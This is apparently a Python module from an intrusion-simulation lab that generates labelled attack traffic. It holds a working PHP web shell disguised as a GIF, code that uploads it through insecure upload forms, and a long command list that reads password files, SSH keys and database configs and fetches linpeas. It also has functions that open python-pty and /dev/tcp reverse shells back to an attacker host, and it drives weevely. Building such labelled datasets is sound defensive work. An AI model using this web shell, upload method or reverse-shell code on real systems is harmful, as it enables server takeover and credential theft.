"""Web shells: through careless upload plug-ins and forms, then used in several styles; and weevely, a shell of Debian's."""

import base64
import json
import random
import socket
import time
from urllib.parse import quote, quote_plus

import words
from actors.http import Session
from attacks.pace import within

UPLOAD = {"access": "attacker_http:foothold:webshell_upload"}
COMMAND = {"access": "attacker_http:foothold:webshell_cmd", "exec": "escalate:webshell_cmd"}
# It runs what it is told: as plain text, or as base64 of a JSON list of words or of a JSON string.
SHELL = """GIF89a<?php
$given = $_REQUEST['%s'] ?? '';
$told = json_decode(base64_decode($given), true);
system(is_array($told) ? implode(' ', $told) : (is_string($told) ? $told : $given));
"""
STYLES = ("plain", "base64-list", "post", "base64-text")
COMMANDS = """id;whoami;uname -a;pwd;ls -la;ls /home;cat /etc/passwd;cat /etc/group;ip addr;ip route;ss -tln;netstat -tulpn;ps aux;env;hostname;w;last;df -h;mount;cat /etc/os-release;cat /proc/version;
cat /etc/crontab;ls -la /var/www;cat /var/www/site/wp-config.php;find / -maxdepth 2 -perm -4000;sudo -n -l;ls -la /tmp;cat /etc/hosts;cat /etc/resolv.conf;which python3 perl nc curl wget;ls /var/backups;
php -v;cat /home/*/.bash_history;ls -la /root;head -n 5 /etc/ssh/sshd_config;grep -r password /var/www/site/wp-config.php;echo hello > /tmp/x;cat /tmp/x;rm /tmp/x;find /var/www -name *.sql;uptime;free -m;
mysql -u wordpress -plab -e 'show tables' wordpress;date;arp -a;dpkg -l;cat /etc/sudoers;ls /etc/cron.d;getent passwd root;stat /etc/shadow;tar -cf /tmp/a.tar /etc/hosts;ls -R /var/www/html/tools;
python3 -c 'print(1)';wget http://127.0.0.1/robots.txt -O -;curl -s http://127.0.0.1/;touch /var/tmp/.a;chmod +x /var/tmp/.a;crontab -l;lsof -i;nproc;lscpu;cat /proc/meminfo;bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1';wget -q http://127.0.0.1/linpeas.sh -O /tmp/l.sh;tar czf /tmp/w.tgz /var/www/html/tools;cat /home/*/.ssh/id_rsa;base64 /etc/passwd;ls -al /var/mail;mysqldump --all-databases;iptables -L;nc -z 127.0.0.1 22;perl -e 'print 1';ls -lah ..;cat ../../../wp-config.php;echo PD9waHA= | base64 -d > /tmp/s.php;unlink /tmp/s.php;history;last -n 20;ps -ef --forest;cat /etc/ssh/sshd_config;grep -rn pass /etc/mysql;find /etc -name *.key;ping -c 1 127.0.0.1;printenv;groups;sed -n 1,5p /etc/passwd""".replace("\n", "").split(";")


def _multipart(field, name, content, extra=""):
    boundary = "----bound" + str(time.time_ns())
    head = "".join(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in extra)
    body = f'{head}--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{name}"\r\nContent-Type: image/gif\r\n\r\n{content}\r\n--{boundary}--\r\n'
    return body.encode("latin-1"), {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def _shell_name(bed, number, rng):
    """The file's name: the testbed's own first, then what upload scripts and intruders make up."""
    stem = bed.intruder.shell_file.removesuffix(".php")
    return [f"{stem}.php", f"{rng.choice(words.NOUNS)}-{time.time():.4f}.php", f"{''.join(rng.choices('abcdefghijklmnopqrstuvwxyz', k=9))}-{int(time.time())}.{rng.randrange(1000, 9999)}.php", f"{stem}{number}.php",
            f"{rng.randbytes(4).hex()}.php", f"{rng.choice(['shell', 'cmd', 'c99', 'r57', 'wso', 'mini', 'up'])}.phtml"][number % 6]


def upload(lab):
    """Put shells on both servers. Returns [(host, site, path)]."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 650)
    lab.attacker.enter()
    shells = []
    content = SHELL % bed.intruder.shell_param
    folder = bed.wp_base + time.strftime("/wp-content/uploads/%Y/%m/")
    # (server, its name, upload script, form field, further fields, where the file ends up)
    ways = [(lab.web, bed.www, f"{bed.wp_base}/wp-admin/admin-ajax.php", "picture", [("action", "guest_files")], folder),
            (lab.web, bed.www, lab.site["gallery_upload"], rng.choice(["file", "Filedata", "files[]"]), [], folder),
            (lab.intra, f"intranet.{bed.domain}", "/tools/upload.php", "file", [], "/tools/files/")]
    for number in range(1 if bed.short else 9):
        host, site, target, field, extra, stored = ways[number % 3]
        name = words.ascii_only(_shell_name(bed, number, rng))
        if host is lab.intra:
            name = name.replace(".phtml", ".php")
        session = Session(host.address, site, bed.intruder.address, rng.choice(["python-requests/2.28.1", "curl/7.88.1", *bed.intruder.tool_agents]))
        with lab.journal.step(f"upload-{number}", "script", [bed.intruder.address], UPLOAD):
            # A look at the form, then the file; a second try where the first name is refused.
            body, headers = _multipart(field.replace("[]", ""), name, content, extra)
            session.request(target, "POST", body, headers=headers)
            for attempt in range(rng.randrange(3)):
                body, headers = _multipart(field.replace("[]", ""), f"{attempt}{name}", content, extra)
                session.request(target + rng.choice(["", "", f"?action=upload&t={attempt}", "?files"]), "POST", body, headers=headers)
        shells.append((host, site, stored + name))
    return shells


def _encode(command, style, rng):
    """A command as a parameter's value, in one of the styles intruders use."""
    if style in ("plain", "post"):
        return rng.choice([quote_plus(command), quote(command), quote(command, safe="/;'*$-_.")])
    told = command.split() if style == "base64-list" else command
    coded = base64.b64encode(json.dumps(told, separators=(",", ":")).encode()).decode()
    return quote(coded) if rng.random() < .5 else coded.rstrip("=") if rng.random() < .5 else coded


def use(lab, shells):
    """Look around through the shells."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 600)
    lab.attacker.enter()
    agents = ["python-requests/2.28.1", "curl/7.88.1", *bed.intruder.tool_agents]
    parameter = bed.intruder.shell_param
    for number, (host, site, path) in enumerate(shells):
        # The first shell of a testbed speaks the style of its name; the others take turns.
        style = ("base64-list" if parameter == "wp_meta" else "plain") if number == 0 else STYLES[number % len(STYLES)]
        session = Session(host.address, site, bed.intruder.address, agents[number % len(agents)])
        with lab.journal.step(f"shell-{style}-{number}", "script", [bed.intruder.address], COMMAND, hosts=[host.name]) as step:
            for command in within(15, rng.sample(COMMANDS, 12 if bed.short else 18)):
                step.names.append(" ".join(command.split()))
                value = _encode(command, style, rng)
                if style == "post" and rng.random() < .8:
                    session.request(path, "POST", f"{parameter}={value}")
                else:
                    session.request(f"{path}?{rng.choice(['', '', '', 'x=1&'])}{parameter}={value}")
                time.sleep(rng.uniform(.02, .2))
    if not bed.short:
        _weevely(lab, rng)


def _weevely(lab, rng):
    """weevely's own shell, uploaded through the gallery and driven by weevely: everything goes in the body of POSTs."""
    bed = lab.testbed
    agent, password = lab.folder / "agent.php", "lab" + rng.randbytes(4).hex()
    lab.attacker.attempt(["weevely", "generate", password, str(agent)], timeout=30)
    name = f"{words.ascii_only(rng.choice(words.NOUNS))}{rng.randrange(99)}.php"
    session = Session(lab.web.address, bed.www, bed.intruder.address, rng.choice(bed.intruder.tool_agents))
    with lab.journal.step("upload-weevely", "weevely", [bed.intruder.address], UPLOAD):
        body, headers = _multipart("file", name, agent.read_bytes().decode("latin-1"))
        session.request(lab.site["gallery_upload"], "POST", body, headers=headers)
    target = f"http://{bed.www}{bed.wp_base}{time.strftime('/wp-content/uploads/%Y/%m/')}{name}"
    with lab.journal.step("shell-weevely", "weevely", [bed.intruder.address], COMMAND):
        for command in ("id", "ls", "uname -a"):
            lab.attacker.attempt(["weevely", target, password, command], timeout=15)


def reverse(lab, shell, port, typed, terminal="pty"):
    """Start a reverse shell with a terminal through `shell` and type into it. typed: [(seconds to wait, text)].

    The request that starts it is a web shell command; what is typed must be journalled by the caller.
    terminal: pty (python's) | script (util-linux's).
    """
    bed = lab.testbed
    host, site, path = shell
    lab.attacker.enter()
    code = (f"import socket,os,pty;s=socket.create_connection((\"{bed.intruder.address}\",{port}));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")")
    listener = socket.create_server((bed.intruder.address, port))
    listener.settimeout(10)
    # setsid: the shell must outlive the request, or the web server's worker would wait for it.
    command = f"setsid python3 -c '{code}' >/dev/null 2>&1 &"
    if terminal == "script":
        command = f"setsid bash -c 'exec 3<>/dev/tcp/{bed.intruder.address}/{port}; script -qc /bin/bash /dev/null <&3 >&3 2>&3' >/dev/null 2>&1 &"
    with lab.journal.step(f"reverse-shell-{port}", "script", [bed.intruder.address], COMMAND, hosts=[host.name], names=[command]):
        Session(host.address, site, bed.intruder.address, "curl/7.88.1").request(f"{path}?{bed.intruder.shell_param}={quote(command)}")
    try:
        connection, _ = listener.accept()
    except TimeoutError:
        return ""
    finally:
        listener.close()
    heard = b""
    with connection:
        connection.settimeout(.2)
        for wait, act in typed:
            time.sleep(wait)
            if callable(act):
                act()
                continue
            try:
                connection.sendall(act.encode() + b"\n")
                heard += connection.recv(65536)
            except (TimeoutError, BrokenPipeError, ConnectionResetError):
                # Nothing to read yet, or an "exit" has ended the shell: the rest is typed in vain.
                pass
    return heard.decode(errors="replace")
